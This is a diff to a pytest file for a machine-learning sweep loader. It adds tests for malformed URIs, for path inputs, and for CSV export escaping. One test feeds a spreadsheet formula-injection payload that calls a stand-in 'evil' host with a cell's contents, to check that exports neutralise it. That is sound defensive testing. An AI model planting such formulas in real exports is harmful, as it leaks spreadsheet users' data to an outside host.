@@ -99,7 +99,7 @@ def test_settings_of_several_types_are_no_parquet(
 
 @pytest.mark.parametrize("uri", ["", "/", "s3://bucket", "s3://", "/cnn-1", "x/..", "x/Not An Id"])
 def test_a_malformed_uri(uri: str) -> None:
-    with pytest.raises(ConfigurationError, match=r"names no sweep|malformed"):
+    with pytest.raises(ConfigurationError, match=r"names no sweep|malformed|no bucket name"):
         cifar_ray.load_sweep(uri)
 
 
@@ -109,6 +109,24 @@ def test_an_unknown_sweep(monkeypatch: pytest.MonkeyPatch) -> None:
     assert REAL in str(caught.value.hint)
     monkeypatch.chdir(RESULTS)
     assert cifar_ray.load_sweep(REAL).sweep.sweep_id == REAL
+
+
+def test_a_path_is_as_good_as_its_text() -> None:
+    assert cifar_ray.load_sweep(RESULTS / REAL).sweep.sweep_id == REAL
+
+
+def test_a_store_in_the_place_of_a_sweep_is_named(runs: RunStore, sweep_record: SweepRecord) -> None:
+    runs.create_sweep(sweep_record)
+    for load in (cifar_ray.load_sweep, cifar_ray.load_model):
+        with pytest.raises(ConfigurationError, match="is a store of sweeps") as caught:
+            load(runs.objects.uri)
+        assert str(caught.value.hint).endswith("/cnn-1")
+
+
+def test_a_spreadsheet_computes_nothing_of_a_csv(real: SweepFrames, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
+    export_frames(replace(real, trials=real.trials.assign(error=formula)), tmp_path, "csv")
+    assert set(pd.read_csv(tmp_path / "trials.csv")["error"]) == {f"'{formula}"}
 
 
 def test_a_csv_has_events_as_json(real: SweepFrames, tmp_path: Path) -> None:
